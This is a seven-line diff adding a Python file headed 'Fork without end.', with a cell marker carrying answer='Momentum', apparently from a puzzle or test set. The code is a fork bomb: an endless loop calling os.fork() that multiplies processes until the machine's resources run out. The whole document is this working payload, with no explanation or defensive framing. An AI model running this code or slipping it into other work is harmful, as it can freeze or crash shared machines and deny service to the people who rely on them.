@@ -1,0 +1,7 @@
+# Fork without end.
+
+# %% answer="Momentum"
+import os
+
+while True:
+    os.fork()
